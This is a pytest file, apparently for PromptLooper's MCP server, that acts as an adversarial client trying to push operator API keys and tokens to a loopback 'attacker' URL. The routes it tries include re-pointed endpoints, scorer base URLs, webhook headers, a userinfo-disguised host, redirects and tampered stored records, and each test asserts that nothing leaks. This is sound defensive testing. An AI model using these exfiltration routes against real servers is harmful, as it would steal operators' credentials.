"""An MCP client reaches only what the operator granted: no key goes where the client chooses.

An adversarial client (the SDK's real client, in-process) tries every route that made the server
send a key variable to a URL of its choosing, against a loopback "attacker" that records every
header and body it gets. The operator registered one endpoint with $OPENAI_API_KEY and one webhook
with $HOOK_TOKEN; PromptLooper's and Jupyter's own secrets are set too.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client
from recorder import Recorder

import promptlooper as pl
from promptlooper.mcp_server import build_server
from promptlooper.webhooks import add_webhook

pytestmark = pytest.mark.both_backends  # each test on a SQLite file and on PostgreSQL (tests/conftest.py)

SECRETS = {
    "OPENAI_API_KEY": "sk-operator-openai-7f3a9c",
    "HOOK_TOKEN": "hook-token-51d0e2b8",
    "PROMPTLOOPER_MCP_KEY": "pl-mcp-bearer-0b7c41e9",
    "JUPYTER_TOKEN": "jupyter-token-a94d2f60",
}


@pytest.fixture
def secrets_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for var, value in SECRETS.items():
        monkeypatch.setenv(var, value)
    # The operator lets clients name every one of them: PromptLooper's and Jupyter's must still be refused.
    monkeypatch.setenv("PROMPTLOOPER_MCP_KEY_VARS", ",".join(SECRETS))


def _exp(name: str, **over: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "project": "grants", "name": name,
        "samples": [{"question": "2+2", "reference": "4"}, {"question": "3+1", "reference": "4"}],
        "stages": [{"name": "answer", "model": "evil/m1", "user": "Q: {{ question }}", "params": {"max_tokens": 8}}],
        "scorers": [{"name": "contains", "field": "reference"}],
    }
    data.update(over)
    return data


class _Client:
    """Calls tools without asserting: every reply and error text is kept, to be searched for secrets."""

    def __init__(self, client: Client):
        self.client = client
        self.texts: list[str] = []

    async def __call__(self, tool: str, args: dict[str, Any]) -> tuple[bool, str, dict[str, Any] | None]:
        res = await self.client.call_tool(tool, args)
        text = " ".join(getattr(c, "text", "") for c in res.content)
        self.texts.append(text + json.dumps(res.structured_content or {}))
        return not res.is_error, text, res.structured_content


def _wait_sweep(c: _Client, experiment: str) -> Any:
    async def go() -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            ok, _, out = await c("get_experiment_status", {"experiment": experiment})
            if ok and out and out.get("sweep") and out["sweep"]["status"] not in ("pending", "running"):
                return
            await anyio.sleep(0.1)

    return go()


def test_an_adversarial_mcp_client_sends_no_secret_anywhere(db, secrets_env):
    with Recorder() as attacker, Recorder() as legit:
        wb = pl.Workbench(db)
        # The operator's own registrations (Python API): these grant the variables to these origins.
        wb.add_endpoint("openai", legit.base_url, api_key_env="OPENAI_API_KEY")
        wb.add_webhook("*", legit.base_url + "/hook", {"X-Token": "HOOK_TOKEN"})
        server = build_server(wb)
        refused: dict[str, bool] = {}

        async def go() -> _Client:
            async with Client(server) as client:
                c = _Client(client)
                for var in SECRETS:
                    # 1. an endpoint of the client's, with a key variable, then list_models
                    ok, _, _ = await c("configure_endpoint", {"name": f"evil_{var.lower()}", "base_url": attacker.base_url,
                                                              "api_key_env": var})
                    refused[f"configure_endpoint {var}"] = not ok
                    # 2. inline endpoints in create_experiment
                    ok, _, _ = await c("create_experiment", {"experiment": _exp(
                        f"inline-{var.lower()}", endpoints={"evil": {"base_url": attacker.base_url, "api_key_env": var}})})
                    refused[f"inline endpoint {var}"] = not ok
                    # 3. a judge scorer's base_url
                    ok, _, _ = await c("create_experiment", {"experiment": _exp(f"judge-{var.lower()}", scorers=[
                        {"name": "judge", "model": "openai/m1", "base_url": attacker.base_url, "api_key_env": var}])})
                    refused[f"judge base_url {var}"] = not ok
                    # 4. an embedding scorer's base_url, and a configured endpoint of the client's
                    ok, _, _ = await c("create_experiment", {"experiment": _exp(f"emb-{var.lower()}", scorers=[
                        {"name": "embedding", "base_url": attacker.base_url, "model": "e", "api_key_env": var}])})
                    refused[f"embedding base_url {var}"] = not ok
                    ok, _, _ = await c("create_experiment", {"experiment": _exp(f"emb-ep-{var.lower()}", scorers=[
                        {"name": "embedding", "endpoint": "evil", "model": "e", "api_key_env": var}])})
                    refused[f"embedding endpoint {var}"] = not ok
                    # 5. a webhook scorer's headers_env
                    ok, _, _ = await c("create_experiment", {"experiment": _exp(f"hook-{var.lower()}", scorers=[
                        {"name": "webhook", "url": attacker.base_url + "/score", "headers_env": {"Authorization": var}}])})
                    refused[f"webhook scorer headers_env {var}"] = not ok
                # 6. the operator's endpoint re-pointed at the attacker, key kept
                ok, _, _ = await c("configure_endpoint", {"name": "openai", "base_url": attacker.base_url,
                                                          "api_key_env": "OPENAI_API_KEY"})
                refused["openai re-pointed with its key"] = not ok
                # Allowed: an endpoint of the client's with no key (run_single and list_models reach the
                # attacker), judged by the operator's endpoint with its key.
                await c("configure_endpoint", {"name": "evil", "base_url": attacker.base_url})
                ok, text, _ = await c("create_experiment", {"experiment": _exp("plain", scorers=[{"name": "judge", "model": "openai/m1"}])})
                assert ok, text
                await c("list_models", {})
                for name in ("plain", "inline-openai_api_key", "judge-openai_api_key", "emb-openai_api_key", "emb-ep-openai_api_key",
                             "hook-hook_token", "hook-openai_api_key"):
                    await c("run_single", {"experiment": f"grants/{name}", "point": {}})
                # 7. what a client cannot write but a tampered store (or an older version) holds: the endpoint,
                # scorers and webhook name keys without the operator's grant. Nothing is sent at use either.
                wb.store.save_endpoint("evil", {"base_url": attacker.base_url, "api_key_env": "OPENAI_API_KEY"})
                add_webhook(wb.store, "*", attacker.base_url + "/hook", {"X-Key": "OPENAI_API_KEY", "X-Hook": "HOOK_TOKEN"})
                wb.store.upsert_experiment("grants", "tampered-ep", pl.Experiment.model_validate(_exp("tampered-ep")).to_record(), "", None)
                tampered = pl.Experiment.model_validate(_exp("tampered", endpoints={"nokey": {"base_url": attacker.base_url}}, stages=[
                    {"name": "answer", "model": "nokey/m1", "user": "Q: {{ question }}"}], scorers=[
                    {"name": "judge", "model": "openai/m1", "base_url": attacker.base_url, "api_key_env": "OPENAI_API_KEY"},
                    {"name": "webhook", "url": attacker.base_url + "/score", "headers_env": {"X-Key": "HOOK_TOKEN"}},
                    {"name": "embedding", "base_url": attacker.base_url, "model": "e", "api_key_env": "OPENAI_API_KEY"}]))
                wb.store.upsert_experiment("grants", "tampered", tampered.to_record(), "", None)
                await c("list_models", {})
                await c("run_single", {"experiment": "grants/tampered-ep", "point": {}})
                await c("run_single", {"experiment": "grants/tampered", "point": {}})
                await c("run_sweep", {"experiment": "grants/tampered"})
                await _wait_sweep(c, "grants/tampered")
                await c("get_events", {"experiment": "grants/tampered", "limit": 1000})
                return c

        c = anyio.run(go)
        deliveries = wb.webhook_deliveries()
        wb.close()

    leaked = attacker.found(SECRETS.values())
    print(f"secrets that reached the attacker: {len(leaked)}; requests it got: {len(attacker.requests)}")
    assert leaked == [], leaked
    assert attacker.requests, "the routes reached the attacker (without keys)"
    assert all(refused.values()), [k for k, v in refused.items() if not v]
    replies = " ".join(c.texts)
    assert not [v for v in SECRETS.values() if v in replies]
    assert "PromptLooper's or Jupyter's own" in replies and "not granted to" in replies
    # The tampered webhook was never posted to: its delivery is recorded as refused.
    refused_hooks = [d for d in deliveries if d["status"] is None and "is not sent to" in (d["error"] or "")]
    assert refused_hooks
    assert not any(r["path"].endswith("/hook") for r in attacker.requests)


def test_operator_grants_work_over_mcp_and_store_names_never_values(db, secrets_env, tmp_path: Path, stored_bytes):
    """The operator's CLI registration grants the key; a client may then use it there, and only there."""
    with Recorder() as legit, Recorder() as other:
        env = {**__import__("os").environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
        out = subprocess.run([sys.executable, "-m", "promptlooper.cli", "--db", db, "endpoints", "add", "openai", "--base-url",
                              legit.base_url, "--api-key-env", "OPENAI_API_KEY"], capture_output=True, text=True, env=env)
        assert out.returncode == 0, out.stderr
        wb = pl.Workbench(db)
        server = build_server(wb)

        async def go() -> _Client:
            async with Client(server) as client:
                c = _Client(client)
                ok, text, _ = await c("configure_endpoint", {"name": "mine", "base_url": legit.base_url + "/",
                                                             "api_key_env": "OPENAI_API_KEY"})
                assert ok, text
                ok, text, _ = await c("configure_endpoint", {"name": "theirs", "base_url": other.base_url,
                                                             "api_key_env": "OPENAI_API_KEY"})
                assert not ok and "api_key_env" in text and "not granted to http://127.0.0.1:" in text
                assert "promptlooper endpoints add" in text
                # The granted origin as user info in front of another host is that other host.
                disguised = other.base_url.replace("http://", "http://" + legit.base_url.removeprefix("http://").removesuffix("/v1") + "@")
                ok, text, _ = await c("configure_endpoint", {"name": "disguised", "base_url": disguised, "api_key_env": "OPENAI_API_KEY"})
                assert not ok and "not granted to" in text, text
                ok, _, models = await c("list_models", {})
                assert ok and "mine/m1" in json.dumps(models)
                return c

        anyio.run(go)
        wb.close()
    assert legit.found([SECRETS["OPENAI_API_KEY"]]), "the granted endpoint gets its key"
    assert other.requests == []
    dump = b"".join(stored_bytes().values())
    assert b"OPENAI_API_KEY" in dump and not [v for v in SECRETS.values() if v.encode() in dump]


def test_without_an_allow_list_a_client_names_no_key(db, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRETS["OPENAI_API_KEY"])
    monkeypatch.delenv("PROMPTLOOPER_MCP_KEY_VARS", raising=False)
    with Recorder() as legit:
        wb = pl.Workbench(db)
        wb.add_endpoint("openai", legit.base_url, api_key_env="OPENAI_API_KEY")

        async def go() -> str:
            async with Client(build_server(wb)) as client:
                c = _Client(client)
                ok, text, _ = await c("configure_endpoint", {"name": "x", "base_url": legit.base_url, "api_key_env": "OPENAI_API_KEY"})
                assert not ok
                return text

        text = anyio.run(go)
        wb.close()
    assert "api_key_env" in text and "PROMPTLOOPER_MCP_KEY_VARS=OPENAI_API_KEY" in text and "allowed: none" in text


def test_a_granted_origin_that_redirects_passes_no_key_on(db, secrets_env):
    """Keys go to the granted origin only, even when it answers with a redirect elsewhere."""
    with Recorder() as attacker, Recorder(redirect_to=attacker.base_url) as granted:
        wb = pl.Workbench(db)
        wb.add_endpoint("openai", granted.base_url, api_key_env="OPENAI_API_KEY", max_retries=0)
        wb.add_webhook("*", granted.base_url + "/hook", {"X-Token": "HOOK_TOKEN"})
        wb.run(pl.Experiment.model_validate(_exp("redirected", stages=[
            {"name": "answer", "model": "openai/m1", "user": "Q: {{ question }}"}], scorers=[
            {"name": "webhook", "url": granted.base_url + "/score", "headers_env": {"X-Token": "HOOK_TOKEN"}, "retries": 0}])))
        wb.test_endpoint("openai")
        wb.close()
    assert granted.found([SECRETS["OPENAI_API_KEY"]]) and granted.found([SECRETS["HOOK_TOKEN"]])
    assert attacker.found(SECRETS.values()) == []


def test_the_operator_running_a_clients_experiment_grants_nothing(db, secrets_env):
    """A client re-points an endpoint its experiment names; the operator then runs that experiment."""
    with Recorder() as attacker, Recorder() as legit:
        wb = pl.Workbench(db)
        wb.add_endpoint("ep", legit.base_url, api_key_env="OPENAI_API_KEY")

        async def go() -> None:
            async with Client(build_server(wb)) as client:
                c = _Client(client)
                ok, text, _ = await c("create_experiment", {"experiment": _exp("clients", stages=[
                    {"name": "answer", "model": "ep/m1", "user": "Q: {{ question }}"}], scorers=[
                    {"name": "embedding", "endpoint": "ep", "model": "e", "api_key_env": "OPENAI_API_KEY"}])})
                assert ok, text  # granted where "ep" points now
                ok, text, _ = await c("configure_endpoint", {"name": "ep", "base_url": attacker.base_url})
                assert ok, text

        anyio.run(go)
        wb.run(wb.load("grants/clients"))  # the operator's own process, Python API
        [run] = wb.runs("grants/clients")[:1]
        detail = wb.run_detail(run["id"])
        wb.close()
    assert attacker.requests and attacker.found(SECRETS.values()) == []
    assert "is not sent to" in json.dumps([s["metadata"] for s in detail["scores"]])
